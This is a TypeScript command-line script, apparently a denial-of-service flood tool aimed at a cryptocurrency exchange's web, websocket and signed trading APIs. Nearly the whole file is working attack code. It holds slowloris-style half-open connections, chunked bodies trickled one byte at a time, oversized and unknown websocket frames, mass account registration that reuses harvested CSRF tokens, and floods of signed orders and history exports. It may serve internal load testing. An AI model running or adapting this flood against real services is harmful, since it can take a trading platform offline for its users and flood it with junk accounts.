/**
 * The flood, as a process of its own: `attack.ts ORIGIN ADDRESS SECONDS KEY [KINDS]`; all kinds, or those named
 * and joined by commas. Prints what became of it as JSON.
 */
import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { sign } from '../liquidity/api-client.ts'
import type { ApiKey } from '../liquidity/api-client.ts'
import { Caller } from './callers.ts'
import type { FloodSocket } from './callers.ts'
import { Tally } from './counts.ts'

const PAGES = 100
const SOCKETS = 100
const HALF_OPEN = 3_000
const EXPORTS = 20
const REGISTRATIONS = 10
/** Connections for what is cheap to ask, and requests sent ahead on each. */
const CHEAP = { connections: 50, ahead: 16 }
/** As dear to read as a frame can be. */
const LARGE = Array.from({ length: 20_000 }, () => [])
const PIECES = '1\r\n \r\n'.repeat(10_000)
/** Whoever is cut off comes back after this. */
const BACK_MS = 50
/** No kind asks more often than this, however long it goes on. */
const MOST = 200_000

const [origin = '', address = '', seconds = '0', given = '', named] = process.argv.slice(2)
const key: ApiKey = JSON.parse(given)
const end = performance.now() + Number(seconds) * 1_000
const tally = new Tally()
let number = 0

/** Asks again and again until the end; after a cut with a little rest, because a closed port answers at once. */
async function repeat(kind: string, ask: () => Promise<number>): Promise<void> {
  while (performance.now() < end && (tally.counts[kind]?.sent ?? 0) < MOST)
    if ((await tally.count(kind, ask)) === 0) await sleep(BACK_MS)
}

const several = (count: number, kind: string, ask: () => Promise<number>): Promise<unknown> =>
  Promise.all(Array.from({ length: count }, async () => repeat(kind, ask)))

async function pages(): Promise<void> {
  const caller = new Caller(origin, address, PAGES)
  const paths = ['/trade/BTC-USDT?y=', '/markets?contains=', '/fees/trading?y=', '/auth/login?y=', '/api-docs?q=']
  await several(PAGES, 'pages', async () => caller.get(`${paths[++number % paths.length]}${number}`))
  await caller.close()
}

async function socketQueries(): Promise<void> {
  const caller = new Caller(origin, address, 1)
  const client = async (): Promise<void> => {
    const held: { socket: FloodSocket | null } = { socket: null }
    await repeat('socket queries', async () => {
      if (held.socket?.isOpen !== true) held.socket = await caller.socket()
      const { socket } = held
      const from = 1_700_000_000 + ++number * 60
      if (number % 10 === 0) return socket.ask('deals.subscribe', [])
      return socket.ask(number % 2 === 0 ? 'kline.query' : 'candles_request', ['BTC_USDT', from, 1e10, 60])
    })
    held.socket?.close()
  }
  await Promise.all(Array.from({ length: SOCKETS }, client))
  await caller.close()
}

/** Connections that send half a request and wait. */
async function halfOpen(): Promise<void> {
  const { hostname, port } = new URL(origin)
  const open = new Set<Socket>()
  while (performance.now() < end) {
    while (open.size < HALF_OPEN && (tally.counts['connections']?.sent ?? 0) < MOST && performance.now() < end) {
      const socket = connect({ port: Number(port), host: hostname, localAddress: address })
      open.add(socket)
      void tally.count('connections', async () => {
        const { promise, resolve } = Promise.withResolvers<number>()
        socket.once('connect', () => socket.write('GET / HTTP/1.1\r\nhost: x\r\nx-more: '))
        socket.on('error', () => {})
        socket.once('close', () => {
          open.delete(socket)
          resolve(0)
        })
        return promise
      })
      if (open.size % 100 === 0) await sleep(5)
    }
    await sleep(BACK_MS)
  }
  for (const socket of open) socket.destroy()
}

async function exports(): Promise<void> {
  const caller = new Caller(origin, address, EXPORTS)
  const history = async (): Promise<number> => {
    const path = '/api/v4/trade-account/executed-history'
    const body = JSON.stringify({
      request: path,
      nonce: Date.now() - (++number % 4_000),
      nonceWindow: true,
      limit: 100,
    })
    return caller.send('POST', path, body, sign(key, body))
  }
  await several(EXPORTS, 'exports', async () => {
    const kind = ++number % 3
    if (kind === 0) return history()
    return caller.get(kind === 1 ? '/api/openapi.json' : '/sitemap.xml')
  })
  await caller.close()
}

async function registrations(): Promise<void> {
  const caller = new Caller(origin, address, REGISTRATIONS)
  await several(REGISTRATIONS, 'registrations', async () => {
    const { body, cookie } = await caller.json('/v2/index')
    const { token } = (body as { data: { token: string } }).data
    const account = { email: `flood-${process.pid}-${++number}@example.org`, password: `Long-enough-${number}` }
    return caller.send('POST', '/v2/register', JSON.stringify({ ...account, consents: {} }), {
      'content-type': 'application/json',
      'x-csrf-token': token,
      cookie,
    })
  })
  await caller.close()
}

/** What the site's own pages read, without an account. */
async function reads(): Promise<void> {
  const caller = new Caller(origin, address, CHEAP.connections, CHEAP.ahead)
  const paths = ['/v2/fees', '/v2/trade/markets', '/v2/trade/markets/base-info', '/v2/currencies/data', '/v2/nothing']
  await several(CHEAP.connections * CHEAP.ahead, 'reads', async () => caller.get(paths[++number % paths.length] ?? '/'))
  await caller.close()
}

/** Signed orders that make no sense. */
async function refusedOrders(): Promise<void> {
  const caller = new Caller(origin, address, CHEAP.connections, CHEAP.ahead)
  const path = '/api/v4/order/new'
  await several(CHEAP.connections * CHEAP.ahead, 'refused orders', async () => {
    const nonce = Date.now() - (++number % 4_000)
    const body = JSON.stringify({ request: path, nonce, nonceWindow: true, market: 'BTC_USDT', side: 'hold' })
    return caller.send('POST', path, body, sign(key, body))
  })
  await caller.close()
}

/** Frames of this method and these params, many sent ahead on each of many sockets. */
async function frames(kind: string, method: string, params: readonly unknown[]): Promise<void> {
  const caller = new Caller(origin, address, 1)
  const client = async (): Promise<void> => {
    const held: { socket: FloodSocket | null } = { socket: null }
    await repeat(kind, async () => {
      if (held.socket?.isOpen !== true) held.socket = await caller.socket()
      const { socket } = held
      const asked = Array.from({ length: CHEAP.ahead }, async () => socket.ask(method, params))
      return Math.max(...(await Promise.all(asked)))
    })
    held.socket?.close()
  }
  await Promise.all(Array.from({ length: SOCKETS }, client))
  await caller.close()
}

/** Bodies in pieces of one byte each. */
async function pieces(): Promise<void> {
  const { hostname, port } = new URL(origin)
  const head = ['POST /api/v4/order/new HTTP/1.1', 'host: localhost', 'content-type: application/json']
  await several(SOCKETS, 'pieces', async () => {
    const { promise, resolve } = Promise.withResolvers<number>()
    const socket = connect({ port: Number(port), host: hostname, localAddress: address })
    socket.on('error', () => {})
    socket.once('close', () => resolve(0))
    socket.write(`${[...head, 'transfer-encoding: chunked', '', ''].join('\r\n')}${PIECES}`)
    socket.on('drain', () => socket.write(PIECES))
    const late = setInterval(() => performance.now() > end && socket.destroy(), BACK_MS)
    return promise.finally(() => clearInterval(late))
  })
}

const kinds: Readonly<Record<string, () => Promise<void>>> = {
  pages,
  'socket-queries': socketQueries,
  connections: halfOpen,
  exports,
  registrations,
  reads,
  'refused-orders': refusedOrders,
  'unknown-frames': async () => frames('unknown frames', 'no.method', []),
  'large-frames': async () => frames('large frames', 'ping', LARGE),
  pieces,
}
const chosen = named === undefined ? Object.values(kinds) : named.split(',').map((kind) => kinds[kind])
await Promise.all(chosen.map(async (flood) => flood?.()))
process.stdout.write(JSON.stringify(tally.counts), () => process.exit(0))
